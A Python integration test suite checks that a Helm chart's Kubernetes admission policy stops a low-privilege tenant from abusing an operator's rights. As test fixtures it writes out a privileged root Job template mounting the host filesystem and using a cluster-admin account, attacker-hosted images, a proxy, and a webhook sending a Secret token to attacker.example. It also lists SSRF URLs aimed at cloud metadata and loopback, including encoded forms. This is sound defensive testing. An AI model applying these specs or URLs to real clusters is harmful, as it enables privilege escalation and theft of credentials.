"""The chart's ValidatingAdmissionPolicy, attacked on the real kube-apiserver.

The attacker is a tenant ServiceAccount holding only GenreMonitor verbs in its
namespace: it may not create Jobs, Deployments or Pods, nor read Secrets. The
operator, which may, would otherwise create whatever a GenreMonitor describes
(a confused deputy). Each refusal below is shown to be the policy's doing by
test_without_the_policy_every_attack_is_admitted, which turns the policy off
through the chart's value and sends the same requests. The chart is installed
with helm, so the policy, its binding and the operator/webhook RBAC are the
chart's own.
"""

from __future__ import annotations

import copy
import uuid

import pytest
from kubernetes.client import CoreV1Api
from kubernetes.client.rest import ApiException

from genre_monitor import api
from genre_monitor_dev.procs import wait_until
from tests.chart.chart import CHART_DIR, helm
from tests.security.identities import MONITOR_RULE, acting_as, can, grant, user_name

pytestmark = pytest.mark.integration

TENANT = "tenant"  # GenreMonitor verbs only
AUTHOR = "platform"  # also create Jobs and Deployments, get two named Secrets
READABLE_SECRETS = ["team-hook", "retrain-endpoint"]
UNREADABLE_SECRET = "db-password"  # exists in the namespace; neither may read it

PLAIN = {
    "reference": {"uri": "s3://models/gtzan/reference.parquet"},
    "current": {"uri": "s3://models/gtzan/predictions.parquet"},
    "columns": {"features": ["mfcc_1", "mfcc_2"], "prediction": "predicted_genre"},
}

# The red team's retraining Job: a cluster-admin identity, the node's
# namespaces and root filesystem, a foreign image, a Secret it cannot read.
HOSTILE_JOB = {"spec": {"template": {"spec": {
    "serviceAccountName": "cluster-admin-sa",
    "hostNetwork": True, "hostPID": True, "hostIPC": True,
    "containers": [{
        "name": "x", "image": "registry.attacker.example/toolkit:1",
        "securityContext": {"privileged": True, "runAsUser": 0,
                            "capabilities": {"add": ["SYS_ADMIN"]}},
        "volumeMounts": [{"name": "host", "mountPath": "/host"}],
        "envFrom": [{"secretRef": {"name": UNREADABLE_SECRET}}],
    }],
    "volumes": [{"name": "host", "hostPath": {"path": "/"}}],
}}}}

JOBS = "may not create jobs.batch"
DEPLOYMENTS = "may not create deployments.apps"
GET_SECRET = f"may not get Secret {UNREADABLE_SECRET}"

# (id, spec fields the tenant sets, the field the refusal names, the right it names)
ATTACKS = [
    ("job-template", {"retrain": {"jobTemplate": HOSTILE_JOB}},
     "spec.retrain.jobTemplate", JOBS),
    ("exporter-image", {"exporter": {"image": "registry.attacker.example/miner:1"}},
     "spec.exporter.image", DEPLOYMENTS),
    ("exporter-host-path", {"exporter": {
        "volumes": [{"name": "host", "hostPath": {"path": "/"}}],
        "volumeMounts": [{"name": "host", "mountPath": "/host"}]}},
     "spec.exporter.volumes, spec.exporter.volumeMounts", DEPLOYMENTS),
    ("exporter-token-volume", {"exporter": {"volumes": [{"name": "token", "projected": {
        "sources": [{"serviceAccountToken": {"path": "token"}}]}}]}},
     "spec.exporter.volumes", DEPLOYMENTS),
    ("exporter-mount-only", {"exporter": {
        "volumeMounts": [{"name": "spec", "mountPath": "/elsewhere"}]}},
     "spec.exporter.volumeMounts", DEPLOYMENTS),
    ("exporter-env-from-secret", {"exporter": {"env": [{"name": "PASSWORD", "valueFrom": {
        "secretKeyRef": {"name": UNREADABLE_SECRET, "key": "password"}}}]}},
     "spec.exporter.env", DEPLOYMENTS),
    ("exporter-env-plain", {"exporter": {"env": [{"name": "HTTPS_PROXY",
                                                  "value": "http://attacker.example:3128"}]}},
     "spec.exporter.env", DEPLOYMENTS),
    ("exporter-envfrom", {"exporter": {"envFrom": [{"secretRef": {"name": UNREADABLE_SECRET}}]}},
     "spec.exporter.envFrom", DEPLOYMENTS),
    ("webhook-token-secret", {"webhook": {
        "url": "https://alerts.attacker.example/collect",
        "tokenSecretRef": {"name": UNREADABLE_SECRET, "key": "password"}}},
     "spec.webhook.tokenSecretRef", GET_SECRET),
    ("retrain-http-secret", {"retrain": {"http": {"secretRef": {"name": UNREADABLE_SECRET}}}},
     "spec.retrain.http.secretRef", GET_SECRET),
]

# Webhook targets refused even to an author who may read the token Secret:
# (URL, what the refusal says about its host).
BAD_WEBHOOK_URLS = [
    ("http://169.254.169.254/latest/meta-data/iam/", "link-local"),
    ("http://[fe80::a9fe:a9fe]/", "link-local"),
    ("http://[fd00:ec2::254]/latest/", "cloud metadata address"),
    ("http://100.100.100.200/latest/meta-data/", "cloud metadata address"),
    ("http://metadata.google.internal/computeMetadata/v1/", "cloud metadata service"),
    ("http://127.0.0.1:9093/api/v2/alerts", "loopback"),
    ("http://[::1]:9093/", "loopback"),
    ("http://localhost:9093/", "localhost"),
    ("http://LocalHost./", "localhost"),
    ("http://0.0.0.0:9093/", "unspecified"),
    ("https://kubernetes.default.svc/api/v1/namespaces", "Kubernetes API server"),
    # Spellings of 169.254.169.254 that some resolvers accept.
    ("http://2852039166/", "neither an IP address nor a DNS name"),
    ("http://0xa9fea9fe/", "neither an IP address nor a DNS name"),
    ("http://0251.0376.0251.0376/", "neither an IP address nor a DNS name"),
    ("http://[::ffff:169.254.169.254]/", "neither an IP address nor a DNS name"),
]


def monitor(namespace: str, name: str, **spec) -> dict:
    return {"apiVersion": api.API_VERSION, "kind": api.KIND,
            "metadata": {"name": name, "namespace": namespace},
            "spec": {**copy.deepcopy(PLAIN), **copy.deepcopy(spec)}}


def create(client, body: dict, dry_run: bool = False) -> dict:
    return client.create_namespaced_custom_object(
        api.GROUP, api.VERSION, body["metadata"]["namespace"], api.PLURAL, body,
        dry_run="All" if dry_run else None)


def patch(client, namespace: str, name: str, body):
    return client.patch_namespaced_custom_object(
        api.GROUP, api.VERSION, namespace, api.PLURAL, name, body)


def refusal(call, *args, status: int = 403, **kwargs) -> str:
    """The apiserver's message when it refuses the call (fails if it is admitted):
    403 Forbidden for a missing right, 422 Invalid for a refused webhook URL."""
    with pytest.raises(ApiException) as raised:
        call(*args, **kwargs)
    assert raised.value.status == status, raised.value.body
    return raised.value.body


# -- the chart, and the identities ---------------------------------------------

def helm_in(k8s_cluster, *args: str) -> None:
    helm(*args, "--kubeconfig", str(k8s_cluster.kubeconfig), env=k8s_cluster.env())


@pytest.fixture(scope="module")
def release(k8s_cluster, k8s_api):
    """The chart installed with its defaults (policy on); yields (name, namespace)."""
    name = f"sec-{uuid.uuid4().hex[:8]}"
    helm_in(k8s_cluster, "install", name, str(CHART_DIR), "--namespace", name,
            "--create-namespace")
    yield name, name
    helm_in(k8s_cluster, "uninstall", name, "--namespace", name, "--wait")
    CoreV1Api(k8s_api).delete_namespace(name)


def policy_refuses(client, namespace: str) -> bool:
    """Whether the policy is in force for this client (a dry run, nothing is stored)."""
    body = monitor(namespace, f"probe-{uuid.uuid4().hex[:6]}", **ATTACKS[0][1])
    try:
        create(client, body, dry_run=True)
    except ApiException as error:
        if error.status == 403 and "ValidatingAdmissionPolicy" in error.body:
            return True
        raise
    return False


@pytest.fixture
def team(k8s_cluster, k8s_api, k8s_namespace, release):
    """A team namespace: the tenant, the author, their Secrets; the policy in force."""
    core = CoreV1Api(k8s_api)
    for secret in [*READABLE_SECRETS, UNREADABLE_SECRET]:
        core.create_namespaced_secret(k8s_namespace, {
            "metadata": {"name": secret},
            "stringData": {"token": "not-a-real-token", "password": "not-a-real-password",
                           "url": "https://retrain.team-a.example/run"}})
    grant(k8s_api, k8s_namespace, TENANT, [MONITOR_RULE])
    grant(k8s_api, k8s_namespace, AUTHOR, [
        MONITOR_RULE,
        {"apiGroups": ["batch"], "resources": ["jobs"], "verbs": ["create"]},
        {"apiGroups": ["apps"], "resources": ["deployments"], "verbs": ["create"]},
        {"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"],
         "resourceNames": READABLE_SECRETS},
    ])
    with acting_as(k8s_cluster, k8s_namespace, TENANT) as tenant, \
            acting_as(k8s_cluster, k8s_namespace, AUTHOR) as author:
        # A new binding takes a moment to reach the apiserver's admission.
        wait_until(lambda: policy_refuses(tenant, k8s_namespace), 30, "the policy in force")
        yield k8s_namespace, tenant, author


def test_the_tenant_holds_only_genremonitor_rights(k8s_api, team):
    namespace, _, _ = team
    user = user_name(namespace, TENANT)
    assert can(k8s_api, user, "create", api.PLURAL, namespace, group=api.GROUP)
    for verb, resource, group in [("create", "jobs", "batch"), ("create", "deployments", "apps"),
                                  ("create", "pods", ""), ("get", "secrets", "")]:
        assert not can(k8s_api, user, verb, resource, namespace, group=group), (verb, resource)


def test_a_plain_monitor_is_admitted_for_the_tenant(team):
    namespace, tenant, _ = team
    created = create(tenant, monitor(namespace, "plain"))
    assert created["metadata"]["uid"]
    # Settings that do not shape a Pod or send a credential are the tenant's to make.
    patch(tenant, namespace, "plain", {"spec": {
        "drift": {"method": "psi", "threshold": 0.2},
        "exporter": {"resources": {"requests": {"cpu": "200m"}}},
        "monitoring": {"dashboard": False}}})


@pytest.mark.parametrize(("spec", "field", "right"), [a[1:] for a in ATTACKS],
                         ids=[a[0] for a in ATTACKS])
def test_the_tenant_is_refused_a_field_that_borrows_the_operators_rights(
        team, spec, field, right):
    namespace, tenant, _ = team
    message = refusal(create, tenant, monitor(namespace, "attack", **spec))
    assert f"{field}: {user_name(namespace, TENANT)} {right}" in message, message
    assert f"namespace {namespace}" in message, message
    # Nor can the field be added to a monitor the tenant already has.
    create(tenant, monitor(namespace, "existing"))
    message = refusal(patch, tenant, namespace, "existing", {"spec": spec})
    assert field in message and right in message, message


def test_the_author_is_refused_a_secret_they_cannot_read(team):
    """Holding Job and Deployment rights does not open every Secret: the check is by name."""
    namespace, _, author = team
    for spec, field in [
        ({"webhook": {"url": "https://alerts.team-a.example/hook",
                      "tokenSecretRef": {"name": UNREADABLE_SECRET}}},
         "spec.webhook.tokenSecretRef"),
        ({"retrain": {"http": {"secretRef": {"name": UNREADABLE_SECRET}}}},
         "spec.retrain.http.secretRef"),
    ]:
        message = refusal(create, author, monitor(namespace, "secret-ref", **spec))
        assert f"{field}: {user_name(namespace, AUTHOR)} {GET_SECRET}" in message, message


@pytest.mark.parametrize(("url", "why"), BAD_WEBHOOK_URLS, ids=[u for u, _ in BAD_WEBHOOK_URLS])
def test_a_webhook_url_aimed_inside_the_node_or_cluster_is_refused(team, url, why):
    namespace, _, author = team
    body = monitor(namespace, "hook", webhook={"url": url, "tokenSecretRef": {"name": "team-hook"}})
    message = refusal(create, author, body, status=422)
    assert "spec.webhook.url: " in message and why in message, message


def test_the_author_holding_the_rights_is_admitted(team):
    namespace, _, author = team
    job = {"spec": {"template": {"spec": {"containers": [
        {"name": "train", "image": "registry.team-a.example/trainer:3"}]}}}}
    created = create(author, monitor(
        namespace, "full",
        retrain={"triggers": ["TooManyDriftedFeatures"], "jobTemplate": job},
        exporter={"image": "registry.team-a.example/exporter:1",
                  "env": [{"name": "AWS_ENDPOINT_URL", "value": "http://minio.team-a.svc:9000"}],
                  "envFrom": [{"secretRef": {"name": "team-hook"}}],
                  "volumes": [{"name": "data", "persistentVolumeClaim": {"claimName": "data"}}],
                  "volumeMounts": [{"name": "data", "mountPath": "/data"}]},
        webhook={"url": "https://alerts.team-a.example.com/hook",
                 "tokenSecretRef": {"name": "team-hook"}}))
    assert created["spec"]["retrain"]["jobTemplate"]["spec"]["template"]
    created = create(author, monitor(
        namespace, "http", retrain={"http": {"secretRef": {"name": "retrain-endpoint"}}}))
    assert created["spec"]["retrain"]["http"]["secretRef"]["name"] == "retrain-endpoint"
    # An in-cluster receiver by Service name is fine.
    patch(author, namespace, "http", {"spec": {"webhook": {
        "url": "http://receiver.team-a.svc.cluster.local:8080/alerts",
        "tokenSecretRef": {"name": "team-hook"}}}})


def test_the_tenant_may_edit_what_the_author_configured_but_not_borrow_it(team):
    """On UPDATE only a changed field is checked: the rest of the monitor stays editable."""
    namespace, tenant, author = team
    job = {"spec": {"template": {"spec": {"containers": [
        {"name": "train", "image": "registry.team-a.example/trainer:3"}]}}}}
    create(author, monitor(
        namespace, "shared", retrain={"jobTemplate": job},
        exporter={"env": [{"name": "MODE", "value": "batch"}]},
        webhook={"url": "https://alerts.team-a.example.com/hook",
                 "tokenSecretRef": {"name": "team-hook"}}))

    patch(tenant, namespace, "shared", {"metadata": {"labels": {"team": "a"}},
                                        "spec": {"drift": {"threshold": 0.2},
                                                 "retrain": {"cooldown": "2h"}}})

    hostile = copy.deepcopy(job)
    hostile["spec"]["template"]["spec"]["containers"][0]["image"] = "registry.attacker.example/x"
    message = refusal(patch, tenant, namespace, "shared",
                      {"spec": {"retrain": {"jobTemplate": hostile}}})
    assert "spec.retrain.jobTemplate" in message and JOBS in message
    message = refusal(patch, tenant, namespace, "shared",
                      {"spec": {"exporter": {"env": [{"name": "MODE", "value": "x"}]}}})
    assert "spec.exporter.env" in message and DEPLOYMENTS in message
    # Pointing the author's token at another URL would send it there.
    message = refusal(patch, tenant, namespace, "shared",
                      {"spec": {"webhook": {"url": "https://alerts.attacker.example/"}}})
    assert "spec.webhook.tokenSecretRef" in message and "may not get Secret team-hook" in message

    # Taking a borrowed right away needs no right.
    patch(tenant, namespace, "shared", {"spec": {"retrain": {"jobTemplate": None},
                                                 "exporter": {"env": []}}})
    stored = tenant.get_namespaced_custom_object(api.GROUP, api.VERSION, namespace,
                                                 api.PLURAL, "shared")
    assert "jobTemplate" not in stored["spec"]["retrain"]
    assert stored["spec"]["exporter"]["env"] == []


def test_status_writes_of_the_webhook_and_operator_are_not_checked(k8s_cluster, team, release,
                                                                   k8s_api):
    """The policy matches genremonitors, not genremonitors/status: the webhook records a
    retrain request and the operator its conditions under the chart's RBAC, on a
    monitor whose Job template neither could have written."""
    namespace, _, author = team
    release_name, release_namespace = release
    create(author, monitor(namespace, "watched", retrain={"jobTemplate": {"spec": {"template": {
        "spec": {"containers": [{"name": "t", "image": "registry.team-a.example/t:1"}]}}}}}))
    webhook_account = f"{release_name}-genre-monitor-webhook"
    # The webhook would fail every check the policy makes:
    assert not can(k8s_api, user_name(release_namespace, webhook_account), "create", "jobs",
                   namespace, group="batch")

    request = {"id": "r-1", "reason": api.ALERT_DRIFTED_FEATURES}
    with acting_as(k8s_cluster, release_namespace, webhook_account) as webhook:
        webhook.patch_namespaced_custom_object_status(
            api.GROUP, api.VERSION, namespace, api.PLURAL, "watched",
            {"status": {"retrain": {"pendingRequest": request}}})
    condition = {"type": "Ready", "status": "True", "reason": "Reconciled", "message": "ok"}
    with acting_as(k8s_cluster, release_namespace,
                   f"{release_name}-genre-monitor-operator") as operator:
        operator.patch_namespaced_custom_object_status(
            api.GROUP, api.VERSION, namespace, api.PLURAL, "watched",
            {"status": {"conditions": [condition]}})
        # kopf's own bookkeeping on the object: metadata only, admitted.
        patch(operator, namespace, "watched",
              {"metadata": {"annotations": {"kopf.zalando.org/last-handled-configuration": "{}"}}})
        stored = operator.get_namespaced_custom_object(
            api.GROUP, api.VERSION, namespace, api.PLURAL, "watched")
    assert stored["status"]["retrain"]["pendingRequest"]["id"] == "r-1"
    assert stored["status"]["conditions"][0]["reason"] == "Reconciled"


def test_without_the_policy_every_attack_is_admitted(k8s_cluster, team, release):
    """Control for the refusals above: with admissionPolicy.enabled=false (the chart's
    off switch) the apiserver itself admits every one of them (dry runs: nothing is
    stored, so only the missing policy stood in the way)."""
    namespace, tenant, author = team
    name, release_namespace = release
    helm_in(k8s_cluster, "upgrade", name, str(CHART_DIR), "--namespace", release_namespace,
            "--set", "admissionPolicy.enabled=false")
    try:
        wait_until(lambda: not policy_refuses(tenant, namespace), 30, "the policy gone")
        for attack_id, spec, _field, _right in ATTACKS:
            create(tenant, monitor(namespace, attack_id, **spec), dry_run=True)
        for index, (url, _why) in enumerate(BAD_WEBHOOK_URLS):
            create(author, monitor(namespace, f"hook-{index}", webhook={
                "url": url, "tokenSecretRef": {"name": "team-hook"}}), dry_run=True)
    finally:
        helm_in(k8s_cluster, "upgrade", name, str(CHART_DIR), "--namespace", release_namespace,
                "--reset-values")
        wait_until(lambda: policy_refuses(tenant, namespace), 30, "the policy back in force")


def test_webhook_hosts_value_allows_only_the_listed_hosts(k8s_cluster, team, release):
    namespace, _, author = team
    name, release_namespace = release

    def hook(url: str) -> dict:
        return monitor(namespace, f"hook-{uuid.uuid4().hex[:6]}", webhook={
            "url": url, "tokenSecretRef": {"name": "team-hook"}})

    def listed_only() -> bool:
        try:
            create(author, hook("https://alerts.elsewhere.example/"), dry_run=True)
        except ApiException as error:
            if error.status == 422:
                return True
            raise
        return False

    helm_in(k8s_cluster, "upgrade", name, str(CHART_DIR), "--namespace", release_namespace,
            "--set", "admissionPolicy.webhookHosts={alerts.team-a.example.com,.svc.cluster.local}")
    try:
        wait_until(listed_only, 30, "the allowlist in force")
        create(author, hook("https://alerts.team-a.example.com/hook"))
        create(author, hook("http://receiver.team-a.svc.cluster.local:8080/alerts"))
        for url in ("https://alerts.elsewhere.example/", "https://team-a.example.com/",
                    "https://evilsvc.cluster.local/"):
            message = refusal(create, author, hook(url), status=422)
            assert "spec.webhook.url: host " in message, message
            assert "not in the chart value admissionPolicy.webhookHosts" in message, message
        # Loopback stays refused even when listed hosts would match nothing else.
        assert "loopback" in refusal(create, author, hook("http://127.0.0.1/"), status=422)
    finally:
        helm_in(k8s_cluster, "upgrade", name, str(CHART_DIR), "--namespace", release_namespace,
                "--reset-values")
        wait_until(lambda: not listed_only(), 30, "the allowlist lifted")
